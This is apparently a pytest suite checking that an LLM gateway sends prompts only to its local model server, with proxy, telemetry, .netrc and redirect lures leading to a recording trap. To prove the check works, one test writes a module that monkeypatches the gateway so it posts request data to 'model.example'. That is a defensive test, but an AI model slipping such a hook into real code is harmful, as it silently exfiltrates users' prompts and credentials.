"""Prompts stay in your network: the gateway connects to the model server and to nothing else.

Each worker records every address that it looks up or connects to. Its environment names proxies,
its home has a `.netrc`, the model server redirects, and prompts contain image URLs. All of them
lead to a trap that must not be touched.
"""

import base64
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.script import Status
from tests.harness.deployment import Deployment, deploy
from tests.servers.client import RawClient
from tests.servers.gunicorn import manage

pytestmark = pytest.mark.once  # It brings its own database, so one run is enough.

PROMPT = "a prompt that stays in your network"
PASSWORD = "a-password-of-netrc"


@dataclass
class Trap:
    """A listener that records every connection."""

    sock: socket.socket
    came: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}"

    def listen(self) -> None:
        while True:
            try:
                visitor, _address = self.sock.accept()
            except OSError:
                return
            with visitor:
                visitor.settimeout(1)
                self.came.append(visitor.recv(1000))


@pytest.fixture
def trap() -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as sock:
        made = Trap(sock)
        listener = threading.Thread(target=made.listen, daemon=True)
        listener.start()
        yield made
        sock.shutdown(socket.SHUT_RDWR)
        listener.join(5)


def surroundings(home: Path, trap: Trap) -> dict[str, str]:
    """Variables of an operator's shell, all of which lead to the trap."""
    login = f"login somebody password {PASSWORD}\n"
    (home / ".netrc").write_text(f"machine 127.0.0.1 {login}default {login}")
    names = ("http_proxy", "https_proxy", "all_proxy", "ftp_proxy")
    proxies = dict.fromkeys(names, trap.url) | {name.upper(): trap.url for name in names}
    return {
        **proxies,
        "no_proxy": "",
        "NO_PROXY": "",
        "HOME": str(home),
        "NETRC": str(home / ".netrc"),
        "CONTACTS": str(home / "contacts"),
        # Read by libraries that send telemetry.
        "SENTRY_DSN": trap.url.replace("//", "//key@") + "/1",
        "OTEL_EXPORTER_OTLP_ENDPOINT": trap.url,
        "OLLAMA_HOST": trap.url,
        "OPENAI_BASE_URL": trap.url,
    }


@pytest.fixture
def deployment() -> Iterator[Deployment]:
    with deploy("sqlite") as made:
        price = ["set_price", "nomic-embed-text", "--input", "0.0001"]
        assert manage(made.env, *price).returncode == 0
        yield made


def bodies() -> dict[str, dict[str, Any]]:
    """One prompt for each route that takes one, by family."""
    said = [{"role": "user", "content": PROMPT}]
    embed = {"model": "nomic-embed-text", "input": PROMPT}
    return {
        "/api/generate": {"model": "llama3", "prompt": PROMPT},
        "/api/chat": {"model": "llama3", "messages": said},
        "/api/embed": embed,
        "/api/embeddings": {"model": "nomic-embed-text", "prompt": PROMPT},
        "/generate": {"model": "llama3", "prompt": PROMPT},
        "/chat": {"model": "llama3", "messages": said},
        "/embedding": embed,
        "/v1/chat/completions": {"model": "llama3", "messages": said},
        "/v1/completions": {"model": "llama3", "prompt": PROMPT},
        "/v1/embeddings": embed,
        "/v1/responses": {"model": "llama3", "input": PROMPT},
        "/v1/messages": {"model": "llama3", "max_tokens": 9, "messages": said},
    }


def image_of(url: str) -> dict[str, Any]:
    """A prompt with an image at a URL."""
    picture = {"type": "image_url", "image_url": {"url": url}}
    content = [{"type": "text", "text": PROMPT}, picture]
    return {"model": "llama3", "messages": [{"role": "user", "content": content}]}


def ask(url: str, key: str, path: str, body: dict[str, Any] | None = None) -> int:
    with RawClient(url, timeout=20) as client:
        client.request("POST" if body else "GET", path, json.dumps(body or {}).encode(), key=key)
        status = client.read_head().status
        client.read_all()
    return status


def test_a_prompt_goes_to_the_model_server_and_nowhere_else(
    deployment: Deployment, trap: Trap
) -> None:
    more: dict[str, Any] = surroundings(deployment.home, trap)
    with deployment.gateway("tests.faults.watched_wsgi", **more) as server:
        for path, body in bodies().items():
            for stream in (True, False):
                status = ask(server.url, deployment.key, path, body | {"stream": stream})
                assert status in ((200, 400) if "embed" in path and stream else (200,)), path
        for path in ("/models", "/v1/models", "/usage", "/readyz", "/api/version", "/api/ps"):
            assert ask(server.url, deployment.key, path) == 200, path
        # An image that would have to be fetched, and a model server that redirects.
        assert ask(server.url, deployment.key, "/v1/chat/completions", image_of(trap.url)) == 400
        deployment.ollama.answer(
            "/api/generate", Status(307, {"Location": trap.url + "/api/generate"})
        )
        assert ask(server.url, deployment.key, "/generate", bodies()["/generate"]) >= 500

    prompted = [one for one in deployment.ollama.requests if PROMPT in one.body.decode()]
    assert len(prompted) >= len(bodies()), "the prompts did not arrive, so nothing was proved"
    secrets = [deployment.key, PASSWORD, base64.b64encode(f"somebody:{PASSWORD}".encode()).decode()]
    for one in deployment.ollama.requests:
        assert not any(word in str(one.headers) for word in secrets), one.target
    assert not trap.came
    assert contacts(deployment) == {f"127.0.0.1:{deployment.ollama.port}"}


def contacts(deployment: Deployment) -> set[str]:
    """Every address that a worker looked up or connected to. A program that it started would be
    listed."""
    lines = (deployment.home / "contacts").read_text().splitlines()
    found = [json.loads(line) for line in lines]
    assert found, "nothing was noted, so nothing was proved"
    assert all(event.startswith("socket.") for event, _address in found), found
    addresses = {f"{address[0]}:{address[1]}" for _event, address in found}
    print(f"\n{len(found)} contacts, with {sorted(addresses)}", end=" ")
    return addresses


def test_the_trace_shows_a_connection_that_leaves_the_network(
    deployment: Deployment, trap: Trap, tmp_path: Path
) -> None:
    """A planted leak makes the test above fail; otherwise it would prove nothing."""
    (tmp_path / "leaking.py").write_text(
        "from tests.faults.watched_wsgi import application\n"
        "import requests, gateway.validation.policy\n"
        "honest = gateway.validation.policy.build\n"
        "def build(*args, **kwargs):\n"
        "    requests.post('http://model.example/', data=str(args), timeout=5)\n"
        "    return honest(*args, **kwargs)\n"
        "gateway.validation.policy.build = build\n"
    )
    more: dict[str, Any] = surroundings(deployment.home, trap) | {"PYTHONPATH": str(tmp_path)}
    with deployment.gateway("leaking", **more) as server:
        ask(server.url, deployment.key, "/api/generate", bodies()["/api/generate"])

    [leaked] = trap.came
    assert b"model.example" in leaked and b"Authorization: Basic" in leaked
    assert trap.url.removeprefix("http://") in contacts(deployment)
